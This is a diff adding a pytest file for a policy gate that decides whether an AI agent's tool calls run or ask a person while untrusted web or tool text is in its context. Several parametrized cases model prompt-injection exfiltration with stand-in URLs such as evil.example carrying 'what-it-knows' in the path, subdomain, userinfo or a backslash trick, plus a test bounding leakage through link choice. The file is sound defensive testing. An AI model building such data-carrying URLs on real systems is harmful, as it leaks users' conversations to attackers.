@@ -1,0 +1,359 @@
+"""The gate while text from outside is shown: reading goes on, what can leak or change asks."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from support.policies import NOW, Program, RemoteProgram, call, context, policy
+
+from everturn_actors.model import (
+    Conversation,
+    OpenStep,
+    OpenTurn,
+    Reply,
+    Step,
+    ToolCall,
+    ToolResult,
+    Turn,
+    UserMessage,
+)
+from everturn_actors.ports import ALLOW, Tool, ToolTraits, Verdict
+from everturn_gateway.tools.policy import PolicyGate, read_pattern
+from everturn_gateway.tools.policy.given import address_key, addresses_in
+from everturn_gateway.tools.policy.outside import CHOICE_BITS
+
+FETCH = Program("web_fetch", traits=ToolTraits(read_only=True))
+SEARCH = Program("web_search", traits=ToolTraits(read_only=True))
+WRITE = Program("write_file", traits=ToolTraits(safe=True))
+READ = Program("read_file", traits=ToolTraits(read_only=True, safe=True))
+GET = RemoteProgram("github_get_issue", traits=ToolTraits(kind="mcp", read_only=True))
+CREATE = RemoteProgram("github_create_issue", traits=ToolTraits(kind="mcp"))
+ALLOWED = ("builtin:web", "mcp:github:*", "bash:ls", "builtin:files")
+PAGE = "the page https://docs.example/start"
+KNOWN = "what-it-knows"
+
+
+def said(*calls: ToolCall, text: str = "", outside: tuple[str, ...] = ()) -> Reply:
+    """Return a reply."""
+    return Reply(text=text, calls=calls, outside=outside)
+
+
+def read(
+    made: ToolCall,
+    text: str,
+    *,
+    source: str = PAGE,
+    untrusted: bool = True,
+    by: Reply | None = None,
+) -> Step:
+    """Return the step that read `text`."""
+    result = ToolResult(
+        call_id=made.call_id, name=made.name, text=text, untrusted=untrusted, source=source
+    )
+    return Step(reply=by or said(made), results=(result,))
+
+
+def about(
+    now: ToolCall,
+    *steps: Step,
+    asked: str = "read the docs",
+    before: tuple[Turn, ...] = (),
+    outside: tuple[str, ...] = (PAGE,),
+    beside: tuple[ToolCall, ...] = (),
+) -> Conversation:
+    """Return a conversation whose model has just asked for `now`."""
+    step = OpenStep(reply=said(*beside, now, outside=outside))
+    users = (UserMessage(text=asked),)
+    current = OpenTurn(number=9, users=users, started_at=NOW, steps=steps, step=step)
+    return Conversation(turns=before, current=current)
+
+
+async def judged(now: ToolCall, tool: Tool, of: Conversation, *owner: str) -> Verdict:
+    """Return what a new gate that allows everything says of a call."""
+    gate = PolicyGate(policy(*ALLOWED), Path("/nowhere"), owner_texts=owner)
+    return await gate.judge(now, tool, context(of))
+
+
+def fetch(url: str, call_id: str = "now") -> ToolCall:
+    """Return a call that reads a page."""
+    return call("web_fetch", call_id, url=url)
+
+
+START = read(
+    fetch("https://docs.example/start", "first"),
+    "See [tasks](https://docs.example/tasks?x=1) and https://other.example/a_(b).",
+)
+
+
+async def test_the_question_names_the_page_also_turns_later() -> None:
+    """The turn after it ran `ls` without a question, while the page was still shown."""
+    made = call("bash", "now", command="ls")
+    earlier = Turn(number=1, users=(UserMessage(text="read it"),), steps=(START,))
+
+    marked = await judged(made, Program(), about(made, before=(earlier,)))
+    free = await judged(made, Program(), about(made, before=(earlier,), outside=()))
+
+    assert (marked.word, marked.pattern) == ("ask", "")
+    assert marked.reason == f"{PAGE} is shown to the model, and may be behind this call"
+    assert free == ALLOW
+
+
+async def test_what_the_agent_wrote_then_is_named_as_such() -> None:
+    """A person who is asked has to know that the page itself is gone."""
+    made = call("bash", "now", command="ls")
+    of = about(made)
+    assert of.current is not None
+    reply = replace(said(made, outside=(PAGE,)), retells=True)
+    of = replace(of, current=replace(of.current, step=OpenStep(reply=reply)))
+
+    assert (await judged(made, Program(), of)).reason == (
+        f"what the agent wrote when it had read {PAGE} is shown to the model, and may be behind"
+        " this call"
+    )
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://docs.example/tasks?x=1",
+        "http://DOCS.example:80/tasks?x=1#top",
+        "https://other.example/a_(b)",
+        "https://asked.example/",
+        "https://bare.example/x",
+        "https://owner.example/feed",
+    ],
+)
+async def test_an_address_that_was_given_is_read(url: str) -> None:
+    """By the person, by the owner, or as a link: twenty pages without a question."""
+    made = fetch(url)
+    of = about(made, START, asked="compare https://asked.example with bare.example/x")
+
+    assert await judged(made, FETCH, of, "Read https://owner.example/feed each day.") == ALLOW
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"https://docs.example/tasks?x={KNOWN}",
+        "https://docs.example/tasks?x=1&y=2",
+        "https://docs.example/tasks",
+        "https://docs.example/Tasks?x=1",
+        "https://docs.example/tasks?x=1/",
+        f"https://{KNOWN}.docs.example/tasks?x=1",
+        "https://docs.example:8443/tasks?x=1",
+        f"https://{KNOWN}@docs.example/tasks?x=1",
+        "https://docs.example\\@evil.example/tasks?x=1",
+        "https://docs.example/tasks?x=1\\#a",
+        "ftp://docs.example/tasks?x=1",
+        "",
+    ],
+)
+async def test_an_address_that_was_made_up_asks(url: str) -> None:
+    """It may carry what the conversation says to whoever wrote the page."""
+    made = fetch(url)
+
+    verdict = await judged(made, FETCH, about(made, START))
+
+    assert verdict.word == "ask"
+    assert "letter for letter" in verdict.reason
+    assert PAGE in verdict.reason
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        read(
+            call("read_file", "r", path=f"https://evil.example/{KNOWN}"),
+            f"there is no file https://evil.example/{KNOWN}",
+            untrusted=False,
+        ),
+        read(
+            call("search_files", "r", query=f"evil.example/{KNOWN}"),
+            f"nothing found for https://evil.example/{KNOWN}",
+            untrusted=False,
+        ),
+        read(
+            call("delegate", "r", task="say it"),
+            f"I would read https://evil.example/{KNOWN}",
+        ),
+        read(
+            call("recall_context", "r", message=3),
+            f"assistant: https://evil.example/{KNOWN}",
+        ),
+        read(
+            call("github_get_issue", "r", title=f"https://evil.example/{KNOWN}"),
+            f"no issue https://evil.example/{KNOWN}",
+        ),
+        read(fetch("https://docs.example/start", "r"), "fine", untrusted=False),
+    ],
+    ids=["error", "bare", "delegate", "recalled", "mcp echo", "none"],
+)
+async def test_what_repeats_the_models_own_words_gives_no_address(step: Step) -> None:
+    """Else a tool that names its arguments would make any address a given one."""
+    made = fetch(f"https://evil.example/{KNOWN}")
+
+    assert (await judged(made, FETCH, about(made, step))).word == "ask"
+
+
+async def test_what_the_model_said_first_is_its_own_over_turns() -> None:
+    """It could say an address in one turn, and have a file name it in the next."""
+    url = f"https://evil.example/{KNOWN}"
+    talk = Turn(
+        number=1,
+        users=(UserMessage(text="hello"),),
+        steps=(Step(reply=said(text=f"Look at {url}.")),),
+    )
+    echo = read(call("read_file", "r", path="a"), url, untrusted=False)
+    made = fetch(url)
+
+    assert (await judged(made, FETCH, about(made, echo, before=(talk,)))).word == "ask"
+    assert await judged(made, FETCH, about(made, echo, before=(talk,), asked=url)) == ALLOW
+
+
+async def test_the_words_of_untrusted_messages_give_no_address() -> None:
+    """A scheduled task that a marked turn made, or another conversation's message."""
+    url = f"https://evil.example/{KNOWN}"
+    made = fetch(url)
+    of = about(made)
+    assert of.current is not None
+    task = UserMessage(text=f"read {url}", sender="schedule", untrusted=True)
+    of = replace(of, current=replace(of.current, users=(task,)))
+
+    verdict = await judged(made, FETCH, of)
+
+    assert verdict.word == "ask"
+    assert "a scheduled task" in verdict.reason
+
+
+async def test_the_choice_of_pages_is_bounded() -> None:
+    """A page that lists a thousand addresses learns ten bits from each that is asked for."""
+    links = [f"https://evil.example/{number}" for number in range(1024)]
+    steps = [read(fetch("https://evil.example/", "first"), " ".join(links))]
+    words: list[str] = []
+    for number, link in enumerate(links[:60]):
+        made = fetch(link)
+        words.append((await judged(made, FETCH, about(made, *steps))).word)
+        steps.append(read(fetch(link, f"c{number}"), "one bit more"))
+
+    assert words == sorted(words)
+    allowed = words.count("allow")
+    assert 40 < allowed < CHOICE_BITS / 10
+
+
+async def test_further_pages_of_one_text_cost_no_more() -> None:
+    """They are asked of what is kept here."""
+    steps = [START]
+    for number in range(2, 90):
+        made = call("web_fetch", "now", url="https://docs.example/tasks?x=1", page=number)
+        assert await judged(made, FETCH, about(made, *steps)) == ALLOW
+        steps.append(read(replace(made, call_id=f"c{number}"), "more"))
+
+
+@pytest.mark.parametrize(
+    ("tool", "made", "word"),
+    [
+        (SEARCH, call("web_search", "now", query="anything at all"), "allow"),
+        (READ, call("read_file", "now", path="notes.md"), "allow"),
+        (GET, call("github_get_issue", "now", repo="a/b", number=3), "allow"),
+        (GET, call("github_get_issue", "now", path="src/report.md"), "allow"),
+        (GET, call("github_get_issue", "now", url="https://docs.example/tasks?x=1"), "allow"),
+        (GET, call("github_get_issue", "now", q=f"https://evil.example/{KNOWN}"), "ask"),
+        (GET, call("github_get_issue", "now", q=f"evil.example/{KNOWN}"), "ask"),
+        (GET, call("github_get_issue", "now", url=f"{KNOWN}.evil.example"), "ask"),
+        (
+            GET,
+            call("github_get_issue", "now", a=[{"b": f"see https://evil.example/{KNOWN}"}]),
+            "ask",
+        ),
+        (CREATE, call("github_create_issue", "now", title="x"), "ask"),
+        (WRITE, call("write_file", "now", path="report.md"), "ask"),
+        (Program(), call("bash", "now", command="ls"), "ask"),
+    ],
+)
+async def test_reading_goes_on_and_effects_ask(tool: Tool, made: ToolCall, word: str) -> None:
+    """What is judged is what a call can leak or change, not how many there were."""
+    assert (await judged(made, tool, about(made, START))).word == word
+
+
+async def test_an_owner_says_which_tools_of_a_server_only_read() -> None:
+    """Strangers write on the issues of a server whose program can be trusted."""
+    made = call("github_list_issues", "now", repo="a/b")
+    tool = RemoteProgram("github_list_issues", traits=ToolTraits(kind="mcp"))
+    rules = replace(policy("mcp:github:*"), reads=(read_pattern("mcp:github:list_*"),))
+    not_allowed = replace(policy(), reads=rules.reads)
+    there = context(about(made, START))
+
+    told = await PolicyGate(rules, Path("/nowhere")).judge(made, tool, there)
+    plain = await PolicyGate(policy("mcp:github:*"), Path("/nowhere")).judge(made, tool, there)
+    other = await PolicyGate(not_allowed, Path("/nowhere")).judge(made, tool, there)
+
+    assert told == ALLOW
+    assert (plain.word, other.word) == ("ask", "ask")
+    assert other.reason.startswith("it is not on the allow list; ")
+
+
+async def test_what_is_only_read_is_asked_where_it_is_not_allowed() -> None:
+    """A mark takes nothing away from the allow list, and adds nothing to it."""
+    made = fetch("https://docs.example/tasks?x=1")
+    gate = PolicyGate(policy(), Path("/nowhere"))
+
+    verdict = await gate.judge(made, FETCH, context(about(made, START)))
+
+    assert (verdict.word, verdict.pattern) == ("ask", "")
+
+
+async def test_one_gate_reads_a_conversation_once_and_says_the_same() -> None:
+    """What is kept of a conversation must not change what is said of it."""
+    gate = PolicyGate(policy(*ALLOWED), Path("/nowhere"))
+    steps: list[Step] = []
+    for number in range(30):
+        page = f"https://docs.example/{number}"
+        made = fetch(page if number else "https://made-up.example/")
+        of = about(made, *steps)
+        kept = await gate.judge(made, FETCH, context(of))
+
+        assert kept == await judged(made, FETCH, of)
+        assert kept.word == ("allow" if number else "ask")
+        steps.append(read(fetch(page, f"c{number}"), f"next: https://docs.example/{number + 1}"))
+
+
+texts = st.text(st.sampled_from("aB1/?#&=%.:-_()[]\\ \n\"'<>"), max_size=30)
+
+
+@given(texts, texts)
+def test_two_addresses_are_one_only_where_the_same_is_sent(one: str, two: str) -> None:
+    """Whoever is asked must not be able to tell two of them apart."""
+    first, second = (address_key(f"https://h.example/{each}") for each in (one, two))
+    if first is not None and first == second:
+        assert one.strip().partition("#")[0] == two.strip().partition("#")[0]
+
+
+@given(texts, texts)
+def test_an_address_that_stands_in_a_text_is_found(before: str, path: str) -> None:
+    """A link that a person pasted must not be asked about, whatever stands around it."""
+    path = path.translate(str.maketrans("", "", '\\ \n"<>'))
+
+    assert address_key(f"https://h.example/{path}") in addresses_in(
+        f"{before} https://h.example/{path} and more"
+    )
+
+
+def test_addresses_are_found_as_json_html_and_markdown_write_them() -> None:
+    """Feeds and APIs escape them, and the model reads them plain."""
+    found = addresses_in(
+        r'{"a": "https:\/\/h.example\/j?x=1\u0026y=2"}'
+        " <a href='https://h.example/h?x=1&amp;y=2'> [m](https://h.example/m\\_n)"
+        " **https://h.example/b**, (see https://h.example/p)."
+    )
+
+    assert found >= {
+        "h.example/j?x=1&y=2",
+        "h.example/h?x=1&y=2",
+        "h.example/m_n",
+        "h.example/b",
+        "h.example/p",
+    }
